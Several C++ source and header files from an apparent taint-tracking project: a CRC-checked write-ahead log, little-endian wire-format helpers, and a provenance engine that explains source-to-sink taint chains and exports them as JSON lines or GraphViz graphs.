    rec.end = r.get32();
    rec.id = r.get32();
    rec.ltlt = r.get64();
    rec.used = r.get32();
    rec.records_seen = r.get64();
    rec.controls_seen = r.get64();
    if (!r.ok() || r.bytesLeft() != 0)
        return Status::error("wal: record payload size mismatch");
    return rec;
}

WalWriter::~WalWriter()
{
    close();
}

Status
WalWriter::fail(const std::string &why)
{
    broken = true;
    if (file) {
        std::fclose(file);
        file = nullptr;
    }
    return Status::error("wal " + path_ + ": " + why + ": " +
                         std::strerror(errno));
}

Status
WalWriter::open(const std::string &path, uint64_t epoch,
                bool flush_each_)
{
    close();
    path_ = path;
    flush_each = flush_each_;
    broken = false;
    records = 0;
    bytes = 0;
    file = std::fopen(path.c_str(), "wb");
    if (!file)
        return fail("cannot create");

    ByteWriter w;
    w.put32(wal_magic);
    w.put16(wal_version);
    w.put16(0); // reserved
    w.put64(epoch);
    w.put32(crc32(w.bytes().data(), w.size()));
    const std::string &hdr = w.bytes();
    if (std::fwrite(hdr.data(), 1, hdr.size(), file) != hdr.size() ||
        std::fflush(file) != 0)
        return fail("header write failed");
    bytes += hdr.size();
    return Status();
}

Status
WalWriter::append(const core::JournalRecord &rec)
{
    if (broken)
        return Status::error("wal " + path_ + ": writer is broken");
    if (!file)
        return Status::error("wal: append before open");

    std::string payload = encodeJournalRecord(rec);
    ByteWriter frame;
    frame.put32(static_cast<uint32_t>(payload.size()));
    frame.put32(crc32(payload.data(), payload.size()));
    const std::string &hdr = frame.bytes();
    if (std::fwrite(hdr.data(), 1, hdr.size(), file) != hdr.size() ||
        std::fwrite(payload.data(), 1, payload.size(), file) !=
            payload.size())
        return fail("append failed");
    if (flush_each && std::fflush(file) != 0)
        return fail("flush failed");
    ++records;
    bytes += hdr.size() + payload.size();
    return Status();
}

Status
WalWriter::flush()
{
    if (broken || !file)
        return Status();
    if (std::fflush(file) != 0)
        return fail("flush failed");
    return Status();
}

Status
WalWriter::close()
{
    if (!file)
        return Status();
    bool bad = std::fflush(file) != 0;
    if (std::fclose(file) != 0)
        bad = true;
    file = nullptr;
    if (bad) {
        broken = true;
        return Status::error("wal " + path_ + ": close failed: " +
                             std::strerror(errno));
    }
    return Status();
}

WalReadReport
readWalBytes(const std::string &bytes)
{
    WalReadReport report;
    if (bytes.size() < wal_header_bytes) {
        report.torn = true;
        report.detail = "header truncated";
        return report;
    }
    ByteReader hdr(bytes.data(), wal_header_bytes);
    uint32_t magic = hdr.get32();
    uint16_t version = hdr.get16();
    hdr.get16(); // reserved
    uint64_t epoch = hdr.get64();
    uint32_t hdr_crc = hdr.get32();
    if (magic != wal_magic) {
        report.torn = true;
        report.detail = "bad magic";
        return report;
    }
    if (hdr_crc != crc32(bytes.data(), wal_header_bytes - 4)) {
        report.torn = true;
        report.detail = "header CRC mismatch";
        return report;
    }
    if (version != wal_version) {
        report.torn = true;
        report.detail = "unsupported version " +
            std::to_string(version);
        return report;
    }
    report.header_ok = true;
    report.epoch = epoch;
    report.bytes_accepted = wal_header_bytes;

    size_t off = wal_header_bytes;
    while (off < bytes.size()) {
        if (bytes.size() - off < 8) {
            report.torn = true;
            report.detail = "torn frame header";
            return report;
        }
        ByteReader frame(bytes.data() + off, 8);
        uint32_t len = frame.get32();
        uint32_t want_crc = frame.get32();
        // A frame claiming more payload than any version writes is
        // corruption, not a large record.
        if (len != wal_payload_bytes) {
            report.torn = true;
            report.detail = "bad frame length " + std::to_string(len);
            return report;
        }
        if (bytes.size() - off - 8 < len) {
            report.torn = true;
            report.detail = "torn frame payload";
            return report;
        }
        std::string payload(bytes.data() + off + 8, len);
        if (want_crc != crc32(payload.data(), payload.size())) {
            report.torn = true;
            report.detail = "frame CRC mismatch";
            return report;
        }
        auto rec = decodeJournalRecord(payload);
        if (!rec.ok()) {
            report.torn = true;
            report.detail = rec.message();
            return report;
        }
        report.records.push_back(rec.value());
        off += 8 + len;
        report.bytes_accepted = off;
    }
    return report;
}

Expected<WalReadReport>
readWalFile(const std::string &path)
{
    std::string bytes;
    if (Status s = readFileBytes(path, bytes); !s.ok())
        return s;
    return readWalBytes(bytes);
}

} // namespace pift::persist
