/**
 * @file
 * Write-ahead log of taint-state mutations (DESIGN.md §11).
 *
 * Layout: a 20-byte header {magic "PWAL", version, epoch, header
 * CRC-32}, followed by length-prefixed record frames {u32 payload
 * length, u32 payload CRC-32, payload}. Each payload is one encoded
 * core::JournalRecord. Appends are sequential, so a crash tears at
 * most the final frame; the reader is tolerant by construction —
 * it accepts the longest valid prefix and reports where and why it
 * stopped, because a torn tail is the *expected* crash outcome, not
 * an error. A corrupt header, by contrast, invalidates the whole
 * file: without a trusted epoch the log cannot be paired with a
 * snapshot.
 */

#ifndef PIFT_PERSIST_WAL_HH
#define PIFT_PERSIST_WAL_HH

#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

#include "core/journal.hh"
#include "support/expected.hh"

namespace pift::persist
{

/** WAL file magic: "PWAL" little-endian. */
inline constexpr uint32_t wal_magic = 0x4c415750u;

/** Current WAL wire-format version. */
inline constexpr uint16_t wal_version = 1;

/** Bytes in the WAL file header. */
inline constexpr size_t wal_header_bytes = 20;

/** Encoded size of one JournalRecord payload (version 1). */
inline constexpr size_t wal_payload_bytes = 46;

/** Bytes one framed record occupies (frame header + payload). */
inline constexpr size_t wal_frame_bytes = 8 + wal_payload_bytes;

/** Encode one record payload (without framing). */
std::string encodeJournalRecord(const core::JournalRecord &rec);

/** Decode one record payload; fails on short input or bad enums. */
Expected<core::JournalRecord>
decodeJournalRecord(const std::string &payload);

/**
 * Append-only WAL file writer. All failures are sticky: after the
 * first failed write the writer drops further appends and healthy()
 * stays false, so one bad disk never half-writes interleaved frames.
 */
class WalWriter
{
  public:
    WalWriter() = default;
    ~WalWriter();

    WalWriter(const WalWriter &) = delete;
    WalWriter &operator=(const WalWriter &) = delete;

    /**
     * Create (truncate) the WAL at @p path and write its header.
     * @param epoch the snapshot epoch this log extends
     * @param flush_each flush after every append (durability per
     *        record) instead of only on flush()/close()
     */
    Status open(const std::string &path, uint64_t epoch,
                bool flush_each);

    /** Frame and append one record. No-op when not healthy. */
    Status append(const core::JournalRecord &rec);

    /** Push buffered frames to the OS. */
    Status flush();

    /** Flush and close. Safe to call twice. */
    Status close();

    bool isOpen() const { return file != nullptr; }

    /** False after any I/O failure (sticky). */
    bool healthy() const { return !broken; }

    /** Records appended since open(). */
    uint64_t recordsWritten() const { return records; }

    /** File bytes written since open() (header included). */
    uint64_t bytesWritten() const { return bytes; }

  private:
    Status fail(const std::string &why);

    std::FILE *file = nullptr;
    std::string path_;
    bool flush_each = false;
    bool broken = false;
    uint64_t records = 0;
    uint64_t bytes = 0;
};

/** Outcome of a tolerant WAL read. */
struct WalReadReport
{
    /** Header parsed and checksummed; epoch is trustworthy. */
    bool header_ok = false;

    uint64_t epoch = 0;

    /** The longest valid record prefix. */
    std::vector<core::JournalRecord> records;

    /** File bytes covered by the header + accepted records. */
    uint64_t bytes_accepted = 0;

    /** True when trailing bytes were rejected (torn/corrupt tail). */
    bool torn = false;

    /** Why reading stopped (empty when the whole file was valid). */
    std::string detail;
};

/**
 * Parse WAL bytes, accepting the longest valid prefix of records.
 * Never fails on a torn or bit-flipped *tail* — that is reported via
 * `torn`/`detail`. header_ok is false when the header itself is
 * missing or corrupt (the records list is then empty).
 */
WalReadReport readWalBytes(const std::string &bytes);

/**
 * Read and parse the WAL at @p path. A missing/unreadable file
 * returns an error Status; any readable file yields a report.
 */
Expected<WalReadReport> readWalFile(const std::string &path);

} // namespace pift::persist

#endif // PIFT_PERSIST_WAL_HH
