#include "persist/wire.hh"

#include <array>
#include <cerrno>
#include <cstdio>
#include <cstring>

namespace pift::persist
{

namespace
{

/** Lazily built table for the reflected IEEE polynomial. */
const std::array<uint32_t, 256> &
crcTable()
{
    static const std::array<uint32_t, 256> table = [] {
        std::array<uint32_t, 256> t{};
        for (uint32_t i = 0; i < 256; ++i) {
            uint32_t c = i;
            for (int k = 0; k < 8; ++k)
                c = (c & 1) ? 0xedb88320u ^ (c >> 1) : c >> 1;
            t[i] = c;
        }
        return t;
    }();
    return table;
}

std::string
errnoMessage(const std::string &what, const std::string &path)
{
    return what + " " + path + ": " + std::strerror(errno);
}

} // anonymous namespace

uint32_t
crc32(const void *data, size_t len, uint32_t seed)
{
    const auto &table = crcTable();
    const auto *p = static_cast<const uint8_t *>(data);
    uint32_t c = seed ^ 0xffffffffu;
    for (size_t i = 0; i < len; ++i)
        c = table[(c ^ p[i]) & 0xffu] ^ (c >> 8);
    return c ^ 0xffffffffu;
}

Status
readFileBytes(const std::string &path, std::string &out)
{
    std::FILE *f = std::fopen(path.c_str(), "rb");
    if (!f)
        return Status::error(errnoMessage("cannot open", path));
    out.clear();
    char chunk[1 << 16];
    size_t got;
    while ((got = std::fread(chunk, 1, sizeof(chunk), f)) > 0)
        out.append(chunk, got);
    bool bad = std::ferror(f) != 0;
    std::fclose(f);
    if (bad)
        return Status::error(errnoMessage("read failed on", path));
    return Status();
}

Status
writeFileBytes(const std::string &path, const std::string &bytes)
{
    std::FILE *f = std::fopen(path.c_str(), "wb");
    if (!f)
        return Status::error(errnoMessage("cannot create", path));
    size_t put = std::fwrite(bytes.data(), 1, bytes.size(), f);
    bool bad = put != bytes.size() || std::fflush(f) != 0;
    if (std::fclose(f) != 0)
        bad = true;
    if (bad)
        return Status::error(errnoMessage("write failed on", path));
    return Status();
}

Status
writeFileAtomic(const std::string &path, const std::string &bytes)
{
    const std::string tmp = path + ".tmp";
    if (Status s = writeFileBytes(tmp, bytes); !s.ok())
        return s;
    if (std::rename(tmp.c_str(), path.c_str()) != 0) {
        std::remove(tmp.c_str());
        return Status::error(errnoMessage("rename failed for", path));
    }
    return Status();
}

} // namespace pift::persist
