/**
 * @file
 * Wire-format primitives for the persistence layer (DESIGN.md §11).
 *
 * Every durable artifact (snapshot, write-ahead log) is built from
 * the same three pieces: little-endian fixed-width integers appended
 * to a byte buffer (ByteWriter), a bounds-checked sequential decoder
 * that turns any structural violation into a sticky failure instead
 * of undefined behaviour (ByteReader), and CRC-32 (IEEE, reflected)
 * over the encoded bytes so corruption is *detected*, never silently
 * parsed. Encoding is explicit byte-at-a-time, so the on-disk layout
 * is independent of host struct padding — unlike the trace cache
 * format, persisted taint state must survive across builds.
 */

#ifndef PIFT_PERSIST_WIRE_HH
#define PIFT_PERSIST_WIRE_HH

#include <cstddef>
#include <cstdint>
#include <string>

#include "support/expected.hh"

namespace pift::persist
{

/**
 * CRC-32 (IEEE 802.3, reflected, polynomial 0xEDB88320) of @p len
 * bytes at @p data. @p seed chains partial computations: pass the
 * previous return value to continue a running checksum.
 */
uint32_t crc32(const void *data, size_t len, uint32_t seed = 0);

/** Append-only little-endian encoder over a growable byte buffer. */
class ByteWriter
{
  public:
    void
    put8(uint8_t v)
    {
        buf.push_back(static_cast<char>(v));
    }

    void
    put16(uint16_t v)
    {
        put8(static_cast<uint8_t>(v));
        put8(static_cast<uint8_t>(v >> 8));
    }

    void
    put32(uint32_t v)
    {
        put16(static_cast<uint16_t>(v));
        put16(static_cast<uint16_t>(v >> 16));
    }

    void
    put64(uint64_t v)
    {
        put32(static_cast<uint32_t>(v));
        put32(static_cast<uint32_t>(v >> 32));
    }

    const std::string &bytes() const { return buf; }
    std::string takeBytes() { return std::move(buf); }
    size_t size() const { return buf.size(); }

  private:
    std::string buf;
};

/**
 * Bounds-checked little-endian decoder. Any read past the end sets a
 * sticky failure flag and returns zeros; callers check ok() once at
 * the end of a section instead of after every field (the zeros are
 * never acted upon when ok() is checked before use).
 */
class ByteReader
{
  public:
    ByteReader(const void *data, size_t len)
        : ptr(static_cast<const uint8_t *>(data)), remaining(len)
    {}

    explicit ByteReader(const std::string &bytes)
        : ByteReader(bytes.data(), bytes.size())
    {}

    uint8_t
    get8()
    {
        if (remaining < 1) {
            failed = true;
            return 0;
        }
        --remaining;
        return *ptr++;
    }

    uint16_t
    get16()
    {
        uint16_t lo = get8();
        return static_cast<uint16_t>(lo | (get8() << 8));
    }

    uint32_t
    get32()
    {
        uint32_t lo = get16();
        return lo | (static_cast<uint32_t>(get16()) << 16);
    }

    uint64_t
    get64()
    {
        uint64_t lo = get32();
        return lo | (static_cast<uint64_t>(get32()) << 32);
    }

    /** True while every read so far was in bounds. */
    bool ok() const { return !failed; }

    size_t bytesLeft() const { return remaining; }

  private:
    const uint8_t *ptr;
    size_t remaining;
    bool failed = false;
};

/** Read a whole file into @p out. @return error Status on failure. */
Status readFileBytes(const std::string &path, std::string &out);

/** Write @p bytes to @p path (truncating). */
Status writeFileBytes(const std::string &path,
                      const std::string &bytes);

/**
 * Write @p bytes to @p path atomically: write to "<path>.tmp", flush,
 * then rename over @p path, so a crash mid-write leaves either the
 * old file or the new one — never a torn mixture. (Media-level
 * corruption is still possible and is what the checksums are for.)
 */
Status writeFileAtomic(const std::string &path,
                       const std::string &bytes);

} // namespace pift::persist

#endif // PIFT_PERSIST_WIRE_HH
