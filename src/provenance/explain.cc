#include "provenance/explain.hh"

#include <algorithm>
#include <cstdio>
#include <map>

namespace pift::provenance
{

namespace
{

/** Interval-map payload: where the bytes' taint last came from. */
struct Origin
{
    Addr end = 0;    //!< inclusive range end
    size_t node = 0; //!< index of the tainting record
};

using TaintMap = std::map<Addr, Origin>;

/** Remove coverage of [s, e] (splitting partially-covered entries). */
void
removeRange(TaintMap &m, Addr s, Addr e)
{
    auto it = m.lower_bound(s);
    if (it != m.begin()) {
        auto prev = std::prev(it);
        if (prev->second.end >= s)
            it = prev;
    }
    while (it != m.end() && it->first <= e) {
        Addr cs = it->first;
        Addr ce = it->second.end;
        size_t cn = it->second.node;
        it = m.erase(it);
        if (cs < s)
            m[cs] = {s - 1, cn};
        if (ce > e) {
            m[e + 1] = {ce, cn};
            break; // nothing past a straddling entry can overlap
        }
    }
}

/** Make @p node the origin of [s, e]. */
void
insertRange(TaintMap &m, Addr s, Addr e, size_t node)
{
    removeRange(m, s, e);
    m[s] = {e, node};
}

/** Origin nodes overlapping [s, e], ascending and deduplicated. */
std::vector<size_t>
overlappingOrigins(const TaintMap &m, Addr s, Addr e)
{
    std::vector<size_t> out;
    auto it = m.lower_bound(s);
    if (it != m.begin()) {
        auto prev = std::prev(it);
        if (prev->second.end >= s)
            it = prev;
    }
    for (; it != m.end() && it->first <= e; ++it)
        out.push_back(it->second.node);
    std::sort(out.begin(), out.end());
    out.erase(std::unique(out.begin(), out.end()), out.end());
    return out;
}

const char *
verdictName(uint8_t verdict)
{
    switch (verdict) {
      case 0: return "CLEAN";
      case 1: return "TAINTED";
      case 2: return "MAYBE-TAINTED";
    }
    return "?";
}

/** Synthetic cause record for evidence the bounded ring overwrote. */
ProvRecord
ringEvictedCause(const ProvRecord &sink)
{
    ProvRecord r;
    r.index = sink.index;
    r.seq = sink.seq;
    r.pid = sink.pid;
    r.kind = ProvKind::StorageLoss;
    r.cause = ProvCause::RingEvicted;
    return r;
}

} // anonymous namespace

std::vector<Explanation>
explainPid(const Recorder &rec, ProcId pid)
{
    const std::vector<ProvRecord> records = rec.recordsFor(pid);
    const bool evicted = rec.evictedFor(pid) > 0;
    const size_t n = records.size();

    TaintMap taint;
    // Causal links discovered by the forward pass. write_parent maps
    // a TaintWrite/TaintMerge node to the tainted load governing its
    // window; load_origins maps a WindowOpen/WindowRenew node to the
    // origins its load range overlapped at that moment.
    std::vector<ptrdiff_t> write_parent(n, -1);
    std::vector<std::vector<size_t>> load_origins(n);
    ptrdiff_t last_load = -1;
    size_t scan_start = 0; //!< first node after the last ClearAll

    std::vector<Explanation> out;
    for (size_t i = 0; i < n; ++i) {
        const ProvRecord &r = records[i];
        switch (r.kind) {
          case ProvKind::SourceRead:
            insertRange(taint, r.start, r.end, i);
            break;
          case ProvKind::WindowOpen:
          case ProvKind::WindowRenew:
            load_origins[i] =
                overlappingOrigins(taint, r.start, r.end);
            last_load = static_cast<ptrdiff_t>(i);
            break;
          case ProvKind::TaintWrite:
          case ProvKind::TaintMerge:
            write_parent[i] = last_load;
            insertRange(taint, r.start, r.end, i);
            break;
          case ProvKind::Untaint:
            removeRange(taint, r.start, r.end);
            break;
          case ProvKind::ClearAll:
            taint.clear();
            last_load = -1;
            scan_start = i + 1;
            break;
          case ProvKind::SinkCheck: {
            Explanation e;
            e.sink = r;
            e.verdict = r.verdict;
            if (r.verdict == 1) {
                // Tainted: walk origin → window load → prior origin …
                // until a SourceRead root. Ties resolve to the oldest
                // record, so the chain is deterministic.
                auto origins =
                    overlappingOrigins(taint, r.start, r.end);
                std::vector<size_t> path;
                path.push_back(i);
                if (!origins.empty()) {
                    std::vector<char> seen(n, 0);
                    size_t cur = origins.front();
                    while (!seen[cur]) {
                        seen[cur] = 1;
                        path.push_back(cur);
                        const ProvRecord &c = records[cur];
                        if (c.kind == ProvKind::SourceRead) {
                            e.complete = true;
                            break;
                        }
                        if (c.kind == ProvKind::TaintWrite ||
                            c.kind == ProvKind::TaintMerge) {
                            if (write_parent[cur] < 0)
                                break;
                            cur = static_cast<size_t>(
                                write_parent[cur]);
                        } else if (c.kind == ProvKind::WindowOpen ||
                                   c.kind == ProvKind::WindowRenew) {
                            if (load_origins[cur].empty())
                                break;
                            cur = load_origins[cur].front();
                        } else {
                            break;
                        }
                    }
                }
                std::reverse(path.begin(), path.end());
                e.chain.reserve(path.size());
                for (size_t node : path)
                    e.chain.push_back(records[node]);
                if (!e.complete && evicted) {
                    // The evidence existed but the bounded ring
                    // overwrote it; say so rather than guessing.
                    e.has_cause = true;
                    e.cause = ringEvictedCause(r);
                }
            } else if (r.verdict == 2) {
                // MaybeTainted: the earliest concrete degradation
                // since the last ClearAll is the event that forced
                // the tri-state down.
                for (size_t k = scan_start; k < i; ++k) {
                    if (isDegradation(records[k].kind,
                                      records[k].cause)) {
                        e.has_cause = true;
                        e.cause = records[k];
                        break;
                    }
                }
                if (!e.has_cause && evicted) {
                    e.has_cause = true;
                    e.cause = ringEvictedCause(r);
                }
            } else {
                // Clean: the interval map must agree there is no
                // surviving taint under the checked buffer. A
                // non-empty chain here is an attribution bug (or a
                // silent-FN path) — expose it to the differential.
                auto origins =
                    overlappingOrigins(taint, r.start, r.end);
                for (size_t node : origins)
                    e.chain.push_back(records[node]);
            }
            out.push_back(std::move(e));
            break;
          }
          default:
            // Spill keeps the bytes tainted (exact move); loss and
            // epoch records don't alter coverage — the map stays a
            // superset of the real store, which is what makes
            // Tainted chains complete under degradation.
            break;
        }
    }
    return out;
}

std::vector<Explanation>
explainAll(const Recorder &rec)
{
    std::vector<Explanation> out;
    for (ProcId pid : rec.pids()) {
        auto per = explainPid(rec, pid);
        out.insert(out.end(), per.begin(), per.end());
    }
    return out;
}

std::string
formatRecord(const ProvRecord &r)
{
    char buf[160];
    int len = std::snprintf(
        buf, sizeof(buf), "%-14s pid=%u [0x%x,0x%x]", kindName(r.kind),
        r.pid, r.start, r.end);
    std::string out(buf, static_cast<size_t>(std::max(len, 0)));
    if (r.id) {
        std::snprintf(buf, sizeof(buf), " id=%u", r.id);
        out += buf;
    }
    if (r.kind == ProvKind::WindowOpen ||
        r.kind == ProvKind::WindowRenew ||
        r.kind == ProvKind::TaintWrite ||
        r.kind == ProvKind::TaintMerge) {
        std::snprintf(buf, sizeof(buf), " ltlt=%llu used=%u",
                      static_cast<unsigned long long>(r.ltlt), r.used);
        out += buf;
    }
    if (r.cause != ProvCause::None &&
        r.cause != ProvCause::TaintHit) {
        out += " cause=";
        out += causeName(r.cause);
    }
    std::snprintf(buf, sizeof(buf), " @%llu",
                  static_cast<unsigned long long>(r.seq));
    out += buf;
    return out;
}

std::string
formatExplanation(const Explanation &e)
{
    char buf[160];
    std::snprintf(buf, sizeof(buf),
                  "sink %u pid %u [0x%x,0x%x] @%llu: %s", e.sink.id,
                  e.sink.pid, e.sink.start, e.sink.end,
                  static_cast<unsigned long long>(e.sink.seq),
                  verdictName(e.verdict));
    std::string out = buf;
    if (e.verdict == 1) {
        std::snprintf(buf, sizeof(buf), " (%s chain, %zu links)\n",
                      e.complete ? "complete" : "INCOMPLETE",
                      e.chain.size());
        out += buf;
        for (const ProvRecord &r : e.chain)
            out += "    " + formatRecord(r) + "\n";
        if (!e.complete && e.has_cause)
            out += "    evidence lost: " + formatRecord(e.cause) +
                "\n";
    } else if (e.verdict == 2) {
        out += "\n";
        if (e.has_cause)
            out += "    cause: " + formatRecord(e.cause) + "\n";
        else
            out += "    cause: NOT RECORDED\n";
    } else {
        if (e.chain.empty()) {
            out += " (no taint chain)\n";
        } else {
            out += " (UNEXPECTED residual taint)\n";
            for (const ProvRecord &r : e.chain)
                out += "    " + formatRecord(r) + "\n";
        }
    }
    return out;
}

} // namespace pift::provenance
