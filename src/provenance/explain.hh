/**
 * @file
 * The provenance query engine (DESIGN.md §13).
 *
 * explainPid() replays a process's surviving flight-recorder records
 * forward, maintaining an interval map from tainted address ranges to
 * the record that last tainted them, and links every record to its
 * causal parent:
 *
 *  - a SourceRead is a chain root;
 *  - a WindowOpen/WindowRenew (tainted load) links to the records
 *    whose taint its load range overlapped at that moment;
 *  - a TaintWrite/TaintMerge links to the tainted load governing its
 *    window and becomes the origin of the bytes it wrote;
 *  - Untaint removes coverage, ClearAll resets everything.
 *
 * For each SinkCheck record this yields:
 *  - Tainted: the full source→sink chain (complete iff it reaches a
 *    SourceRead root — always, unless the bounded ring overwrote the
 *    evidence, which is reported as cause ring-evicted);
 *  - MaybeTainted: the earliest concrete degradation record since the
 *    last ClearAll (an injected fault, a storage loss, a stream/state
 *    loss, a command-port degradation) — the event that forced the
 *    tri-state down;
 *  - Clean: no chain (the interval map proves no recorded taint
 *    overlapped the checked buffer).
 *
 * Everything is a pure function of the ring contents, so
 * explanations are byte-deterministic for a given replay.
 */

#ifndef PIFT_PROVENANCE_EXPLAIN_HH
#define PIFT_PROVENANCE_EXPLAIN_HH

#include <string>
#include <vector>

#include "provenance/record.hh"
#include "provenance/recorder.hh"
#include "support/types.hh"

namespace pift::provenance
{

/** Everything explain() derives for one sink check. */
struct Explanation
{
    ProvRecord sink;            //!< the SinkCheck record itself
    uint8_t verdict = 0;        //!< raw core::SinkVerdict

    /**
     * Tainted: the causal chain, source-first and sink-last.
     * Clean: empty (and must stay empty — the differential checks).
     */
    std::vector<ProvRecord> chain;
    /** Tainted only: the chain reaches a SourceRead root. */
    bool complete = false;

    /** MaybeTainted only: a concrete degradation record was found. */
    bool has_cause = false;
    ProvRecord cause;
};

/**
 * Explain every surviving sink check of @p pid, oldest first.
 * Deterministic: ties (a sink range overlapping several origins)
 * resolve to the oldest record.
 */
std::vector<Explanation> explainPid(const Recorder &rec, ProcId pid);

/** explainPid() over every tracked pid, ascending pid. */
std::vector<Explanation> explainAll(const Recorder &rec);

/** One-line rendering of a record (tables, chain lines). */
std::string formatRecord(const ProvRecord &r);

/** Multi-line rendering of one explanation (CLI `explain`). */
std::string formatExplanation(const Explanation &e);

} // namespace pift::provenance

#endif // PIFT_PROVENANCE_EXPLAIN_HH
