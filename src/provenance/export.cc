#include "provenance/export.hh"

#include <cstdio>
#include <map>
#include <string>

namespace pift::provenance
{

namespace
{

void
writeRecordJson(std::ostream &os, const ProvRecord &r)
{
    os << "{\"index\":" << r.index << ",\"seq\":" << r.seq
       << ",\"pid\":" << r.pid << ",\"kind\":\"" << kindName(r.kind)
       << "\",\"cause\":\"" << causeName(r.cause) << "\",\"start\":"
       << r.start << ",\"end\":" << r.end << ",\"id\":" << r.id
       << ",\"ltlt\":" << r.ltlt << ",\"used\":" << r.used
       << ",\"verdict\":" << static_cast<unsigned>(r.verdict) << "}";
}

std::string
nodeLabel(const ProvRecord &r)
{
    char buf[128];
    std::snprintf(buf, sizeof(buf), "%s\\n[0x%x,0x%x] @%llu",
                  kindName(r.kind), r.start, r.end,
                  static_cast<unsigned long long>(r.seq));
    return buf;
}

const char *
sinkColor(uint8_t verdict)
{
    switch (verdict) {
      case 1: return "firebrick1";
      case 2: return "orange";
    }
    return "palegreen";
}

} // anonymous namespace

void
writeRecordsJsonl(std::ostream &os,
                  const std::vector<ProvRecord> &records)
{
    for (const ProvRecord &r : records) {
        writeRecordJson(os, r);
        os << "\n";
    }
}

void
writeExplanationsJsonl(std::ostream &os,
                       const std::vector<Explanation> &exps)
{
    for (const Explanation &e : exps) {
        os << "{\"sink\":";
        writeRecordJson(os, e.sink);
        os << ",\"verdict\":" << static_cast<unsigned>(e.verdict)
           << ",\"complete\":" << (e.complete ? "true" : "false")
           << ",\"chain\":[";
        for (size_t i = 0; i < e.chain.size(); ++i) {
            if (i)
                os << ",";
            writeRecordJson(os, e.chain[i]);
        }
        os << "]";
        if (e.has_cause) {
            os << ",\"cause\":";
            writeRecordJson(os, e.cause);
        }
        os << "}\n";
    }
}

void
writeFlowGraphDot(std::ostream &os,
                  const std::vector<Explanation> &exps,
                  const char *title)
{
    os << "digraph \"" << title << "\" {\n"
       << "  rankdir=TB;\n"
       << "  node [shape=box, fontname=\"monospace\", fontsize=10];\n";

    // Deduplicate shared prefixes: a record is one node keyed by its
    // global emission index, no matter how many chains traverse it.
    std::map<uint64_t, std::string> styled;
    auto emitNode = [&](const ProvRecord &r, const char *fill) {
        std::string style = "label=\"" + nodeLabel(r) + "\"";
        if (fill) {
            style += ", style=filled, fillcolor=";
            style += fill;
        } else if (r.kind == ProvKind::SourceRead) {
            style += ", style=filled, fillcolor=lightblue";
        }
        auto it = styled.find(r.index);
        if (it != styled.end() && it->second.size() >= style.size())
            return;
        styled[r.index] = std::move(style);
    };

    for (const Explanation &e : exps) {
        emitNode(e.sink, sinkColor(e.verdict));
        for (const ProvRecord &r : e.chain)
            if (r.index != e.sink.index)
                emitNode(r, nullptr);
        if (e.has_cause) {
            // Synthetic causes reuse the sink's index; suffix them.
            os << "  cause" << e.sink.index << " [label=\""
               << causeName(e.cause.cause)
               << "\", shape=ellipse, style=dashed];\n";
        }
    }
    for (const auto &[index, style] : styled)
        os << "  r" << index << " [" << style << "];\n";

    for (const Explanation &e : exps) {
        for (size_t i = 0; i + 1 < e.chain.size(); ++i)
            os << "  r" << e.chain[i].index << " -> r"
               << e.chain[i + 1].index << ";\n";
        if (e.has_cause)
            os << "  cause" << e.sink.index << " -> r" << e.sink.index
               << " [style=dashed];\n";
    }
    os << "}\n";
}

} // namespace pift::provenance
