/**
 * @file
 * Flow-graph exporters for provenance explanations (DESIGN.md §13).
 *
 * Two formats, both derived purely from Explanation values so they are
 * byte-deterministic for a given replay:
 *
 *  - JSONL: one JSON object per line. writeRecordsJsonl() dumps raw
 *    flight-recorder records (debugging, offline tooling);
 *    writeExplanationsJsonl() dumps one object per sink check with its
 *    verdict, chain, and cause — the machine-readable counterpart of
 *    `pift_cli explain`.
 *  - DOT: writeFlowGraphDot() renders the union of all chains as a
 *    directed graph — records are nodes (deduplicated by emission
 *    index), causal links are edges, sinks are coloured by verdict and
 *    MaybeTainted causes are attached with a dashed edge. Feed it to
 *    `dot -Tsvg` to look at a leak.
 */

#ifndef PIFT_PROVENANCE_EXPORT_HH
#define PIFT_PROVENANCE_EXPORT_HH

#include <ostream>
#include <vector>

#include "provenance/explain.hh"
#include "provenance/record.hh"

namespace pift::provenance
{

/** One JSON object per record, in the given order. */
void writeRecordsJsonl(std::ostream &os,
                       const std::vector<ProvRecord> &records);

/** One JSON object per explanation: verdict, chain, cause. */
void writeExplanationsJsonl(std::ostream &os,
                            const std::vector<Explanation> &exps);

/** GraphViz flow graph over every chain in @p exps. */
void writeFlowGraphDot(std::ostream &os,
                       const std::vector<Explanation> &exps,
                       const char *title = "pift_provenance");

} // namespace pift::provenance

#endif // PIFT_PROVENANCE_EXPORT_HH
