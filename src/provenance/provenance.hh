/**
 * @file
 * Umbrella header for the provenance flight recorder (DESIGN.md §13).
 * Emit sites only need recorder.hh; consumers that query or export
 * (analysis, CLI, benches) include this.
 */

#ifndef PIFT_PROVENANCE_PROVENANCE_HH
#define PIFT_PROVENANCE_PROVENANCE_HH

#include "provenance/explain.hh"
#include "provenance/export.hh"
#include "provenance/record.hh"
#include "provenance/recorder.hh"

#endif // PIFT_PROVENANCE_PROVENANCE_HH
