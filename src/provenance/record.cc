#include "provenance/record.hh"

namespace pift::provenance
{

const char *
kindName(ProvKind kind)
{
    switch (kind) {
      case ProvKind::SourceRead:    return "source-read";
      case ProvKind::WindowOpen:    return "window-open";
      case ProvKind::WindowRenew:   return "window-renew";
      case ProvKind::WindowExpire:  return "window-expire";
      case ProvKind::TaintWrite:    return "taint-write";
      case ProvKind::TaintMerge:    return "taint-merge";
      case ProvKind::Untaint:       return "untaint";
      case ProvKind::Spill:         return "spill";
      case ProvKind::StorageLoss:   return "storage-loss";
      case ProvKind::StreamLoss:    return "stream-loss";
      case ProvKind::StateLoss:     return "state-loss";
      case ProvKind::FaultInjected: return "fault-injected";
      case ProvKind::CmdRetry:      return "cmd-retry";
      case ProvKind::CmdDegraded:   return "cmd-degraded";
      case ProvKind::SinkCheck:     return "sink-check";
      case ProvKind::ClearAll:      return "clear-all";
      case ProvKind::SnapshotEpoch: return "snapshot-epoch";
      case ProvKind::WalEpoch:      return "wal-epoch";
    }
    return "?";
}

const char *
causeName(ProvCause cause)
{
    switch (cause) {
      case ProvCause::None:                return "none";
      case ProvCause::TaintHit:            return "taint-hit";
      case ProvCause::WindowClosed:        return "window-closed";
      case ProvCause::BudgetExhausted:     return "budget-exhausted";
      case ProvCause::LruDropEviction:     return "lru-drop-eviction";
      case ProvCause::DropNewRefusal:      return "drop-new-refusal";
      case ProvCause::SplitAllocFail:      return "split-alloc-fail";
      case ProvCause::SpillEviction:       return "spill-eviction";
      case ProvCause::InjectedDrop:        return "injected-drop";
